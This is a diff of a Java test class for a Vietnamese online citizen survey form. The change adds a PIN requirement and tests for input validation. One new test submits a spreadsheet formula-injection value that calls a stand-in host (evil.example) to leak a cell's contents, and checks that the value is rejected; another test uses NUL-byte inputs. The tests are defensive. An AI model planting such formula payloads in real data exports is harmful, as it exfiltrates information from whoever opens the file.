@@ -5,19 +5,14 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.hamcrest.Matchers.containsString;
 import static org.hamcrest.Matchers.not;
 
-import java.time.Duration;
 import java.util.HashMap;
 import java.util.Map;
 import java.util.UUID;
 
-import jakarta.inject.Inject;
-
-import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 
 import io.quarkus.test.junit.QuarkusTest;
 import io.restassured.response.ValidatableResponse;
-import vn.parsipas.platform.time.ShiftableClock;
 import vn.parsipas.survey.Fixtures;
 import vn.parsipas.survey.SurveyServiceTest;
 
@@ -25,24 +20,17 @@ import vn.parsipas.survey.SurveyServiceTest;
 @QuarkusTest
 @SurveyServiceTest
 class CitizenFormTest {
-    @Inject
-    ShiftableClock clock;
-
-    @AfterEach
-    void resetClock() {
-        clock.reset();
-    }
-
     @Test
-    void aValidCodeOpensTheQuestionnaireInVietnameseWithLabelledAnswers() {
+    void aValidCodeAndPinOpenTheQuestionnaireInVietnameseWithLabelledAnswers() {
         String agency = Fixtures.uniqueAgency();
         Fixtures.agencies(agency);
         String code = Fixtures.uniqueReceipt();
-        Fixtures.registerReceipt(code, agency);
+        String pin = Fixtures.registerReceipt(code, agency);
 
         given().get("/khao-sat").then().statusCode(200).contentType("text/html")
-                .body(containsString("<html lang=\"vi\">")).body(containsString("<label for=\"receiptCode\">Mã hồ sơ</label>"));
-        given().queryParam("receiptCode", code).get("/khao-sat").then().statusCode(200)
+                .body(containsString("<html lang=\"vi\">")).body(containsString("<label for=\"receiptCode\">Mã hồ sơ</label>"))
+                .body(containsString("<label for=\"pin\">Mã PIN</label>"));
+        CitizenFormAbuseTest.open(code, pin).then().statusCode(200)
                 .body(containsString("<h3>Chỉ số hài lòng về TTHC</h3>"))
                 .body(containsString("<legend>Mức độ hài lòng chung của Ông/Bà về thủ tục hành chính đã thực hiện"))
                 .body(containsString("5 – Rất hài lòng")).body(containsString("1 – Rất không hài lòng"))
@@ -50,26 +38,12 @@ class CitizenFormTest {
     }
 
     @Test
-    void aCodeThatCannotBeUsedIsRefusedWithTheReason() {
-        String agency = Fixtures.uniqueAgency();
-        Fixtures.agencies(agency);
-        String code = Fixtures.uniqueReceipt();
-        Fixtures.registerReceipt(code, agency);
-
-        given().queryParam("receiptCode", "x").get("/khao-sat").then().statusCode(400).body(containsString("4 đến 64 ký tự"));
-        given().queryParam("receiptCode", Fixtures.uniqueReceipt()).get("/khao-sat").then().statusCode(404)
-                .body(containsString("Không tìm thấy hồ sơ"));
-        clock.shiftBy(Duration.ofDays(91));
-        given().queryParam("receiptCode", code).get("/khao-sat").then().statusCode(410).body(containsString("hết thời hạn"));
-    }
-
-    @Test
     void missingRequiredAnswersShowTheFormAgainWithWhatToCorrectAndTheChoicesKept() {
         String agency = Fixtures.uniqueAgency();
         Fixtures.agencies(agency);
         String code = Fixtures.uniqueReceipt();
-        Fixtures.registerReceipt(code, agency);
-        Map<String, String> answers = answers(code, UUID.randomUUID().toString());
+        String pin = Fixtures.registerReceipt(code, agency);
+        Map<String, String> answers = answers(code, pin, UUID.randomUUID().toString());
         answers.remove("q_2.2.2-q1");
         answers.remove("channel");
 
@@ -83,17 +57,31 @@ class CitizenFormTest {
     }
 
     @Test
-    void aDoubleSubmissionIsThankedOnceAndAnotherResponseForTheCodeIsAConflict() {
+    void aChoiceThatIsNotAnOptionOfTheQuestionnaireIsRefusedOnThePage() {
         String agency = Fixtures.uniqueAgency();
         Fixtures.agencies(agency);
         String code = Fixtures.uniqueReceipt();
-        Fixtures.registerReceipt(code, agency);
-        Map<String, String> answers = answers(code, UUID.randomUUID().toString());
+        String pin = Fixtures.registerReceipt(code, agency);
+        Map<String, String> answers = answers(code, pin, UUID.randomUUID().toString());
+        answers.put("ethnicGroup", "=HYPERLINK(\"https://evil.example/?\"&A2,\"Chi tiết\")");
+
+        post(answers).statusCode(400).body(containsString("Phiếu chưa được gửi. Vui lòng sửa 1 mục sau:"))
+                .body(containsString("<a href=\"#f-ethnicGroup\">Vui lòng chọn một trong các lựa chọn của câu: Dân tộc"));
+        assertThat(Fixtures.count("select count(*) from survey_response where receipt_code = $1", code)).isZero();
+    }
+
+    @Test
+    void aDoubleSubmissionIsThankedOnceAndAnotherResponseForTheCodeIsRefused() {
+        String agency = Fixtures.uniqueAgency();
+        Fixtures.agencies(agency);
+        String code = Fixtures.uniqueReceipt();
+        String pin = Fixtures.registerReceipt(code, agency);
+        Map<String, String> answers = answers(code, pin, UUID.randomUUID().toString());
 
         post(answers).statusCode(200).body(containsString("Cảm ơn Ông/Bà đã tham gia khảo sát!"));
         post(answers).statusCode(200).body(containsString("Cảm ơn Ông/Bà đã tham gia khảo sát!"));
-        post(answers(code, UUID.randomUUID().toString())).statusCode(409)
-                .body(containsString("Hồ sơ này đã được đánh giá")).body(not(containsString("Cảm ơn Ông/Bà đã tham gia")));
+        post(answers(code, pin, UUID.randomUUID().toString())).statusCode(400)
+                .body(containsString("Không mở được phiếu đánh giá")).body(not(containsString("Cảm ơn Ông/Bà đã tham gia")));
 
         assertThat(Fixtures.count("select count(*) from survey_response where receipt_code = $1", code)).isOne();
     }
@@ -103,20 +91,21 @@ class CitizenFormTest {
         String agency = Fixtures.uniqueAgency();
         Fixtures.agencies(agency);
         String code = Fixtures.uniqueReceipt();
-        Fixtures.registerReceipt(code, agency);
-        Map<String, String> nulInCode = answers(code + "\u0000", UUID.randomUUID().toString());
-        Map<String, String> nulInAttribute = answers(code, UUID.randomUUID().toString());
+        String pin = Fixtures.registerReceipt(code, agency);
+        Map<String, String> nulInCode = answers(code + "\u0000", pin, UUID.randomUUID().toString());
+        Map<String, String> nulInAttribute = answers(code, pin, UUID.randomUUID().toString());
         nulInAttribute.put("ethnicGroup", "Kinh\u0000");
 
-        post(nulInCode).statusCode(400).contentType("text/html").body(containsString("4 đến 64 ký tự"));
+        // the one answer for a code that cannot be used (review H4): nothing says why
+        post(nulInCode).statusCode(400).contentType("text/html").body(not(containsString("U+0000")));
         post(nulInAttribute).statusCode(400).contentType("text/html").body(containsString("dữ liệu không hợp lệ"));
         assertThat(Fixtures.count("select count(*) from survey_response where receipt_code = $1", code)).isZero();
-        post(answers(code, UUID.randomUUID().toString())).statusCode(200);
+        post(answers(code, pin, UUID.randomUUID().toString())).statusCode(200);
     }
 
-    private static Map<String, String> answers(String code, String responseId) {
-        Map<String, String> form = new HashMap<>(Map.of("receiptCode", code, "responseId", responseId, "questionnaireVersion", "1",
-                "channel", "online", "ageBand", "25-34", "gender", "male"));
+    private static Map<String, String> answers(String code, String pin, String responseId) {
+        Map<String, String> form = new HashMap<>(Map.of("receiptCode", code, "pin", pin, "responseId", responseId,
+                "questionnaireVersion", "1", "channel", "online", "ageBand", "25-34", "gender", "male"));
         for (String question : Fixtures.REQUIRED) {
             form.put("q_" + question, "4");
         }
